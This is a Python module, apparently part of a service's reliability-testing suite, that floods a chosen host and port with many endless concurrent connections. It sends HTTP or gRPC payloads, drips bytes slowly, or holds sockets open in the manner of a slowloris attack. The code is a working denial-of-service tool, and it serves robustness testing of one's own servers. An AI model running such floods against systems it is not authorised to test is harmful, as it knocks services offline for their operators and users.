"""`python -m reliability.attacks.flood`: many clients in a process of their own, until killed."""

from __future__ import annotations

import argparse
import asyncio
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress

from reliability.attacks import generating_payloads, grpc_payloads, http2
from reliability.attacks.payloads import PAYLOADS, Payload, Then

AGAIN_AFTER_S = 0.05
"""Before a client whose connection was closed connects again."""
ANSWER_WITHIN_S = 60.0


async def attack(host: str, port: int, make: Callable[[], Payload]) -> None:
    """Send, and behave as the payload says; connect again whenever the server closes."""
    while True:
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                await _connected(reader, writer, make())
            finally:
                writer.transport.abort()
        await asyncio.sleep(AGAIN_AFTER_S)


async def _connected(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, payload: Payload
) -> None:
    if payload.then is Then.STAY:
        writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's
    while True:
        writer.write(payload.data)
        await writer.drain()
        match payload.then:
            case Then.READ:
                async with asyncio.timeout(ANSWER_WITHIN_S):
                    await _answer(reader)
            case Then.DRIP:
                while not reader.at_eof():
                    await asyncio.sleep(1.0)
                    writer.write(b" ")
                    await writer.drain()
                return
            case Then.STAY:
                await asyncio.sleep(3600.0)
            case Then.LEAVE:
                return


async def _answer(reader: asyncio.StreamReader) -> None:
    head = await reader.readuntil(b"\r\n\r\n")
    length = head.lower().partition(b"content-length: ")[2].split()
    await reader.readexactly(int(length[0]) if length else 0)


async def main(argv: list[str]) -> int:
    """Run the clients."""
    parser = argparse.ArgumentParser(prog="flood")
    generating = generating_payloads.PAYLOADS
    parser.add_argument("name", choices=[*PAYLOADS, *generating, *grpc_payloads.PAYLOADS])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("connections", type=int)
    parser.add_argument("elements", type=int)
    parser.add_argument("items", type=int)
    given = parser.parse_args(argv)
    client: Callable[[], Awaitable[None]]
    if given.name in grpc_payloads.PAYLOADS:
        calls = grpc_payloads.PAYLOADS[given.name](given.elements, given.items)

        async def client() -> None:
            await http2.attack(given.host, given.port, calls)
    elif given.name in generating:

        async def client() -> None:
            await attack(given.host, given.port, generating[given.name])
    else:
        payload = PAYLOADS[given.name](given.elements, given.items)

        async def client() -> None:
            await attack(given.host, given.port, lambda: payload)

    async with asyncio.TaskGroup() as group:
        for _ in range(given.connections):
            group.create_task(_forever(client))
    return 0


async def _forever(client: Callable[[], Awaitable[None]]) -> None:
    while True:
        with suppress(TimeoutError):
            await client()


if __name__ == "__main__":
    sys.exit(asyncio.run(main(sys.argv[1:])))
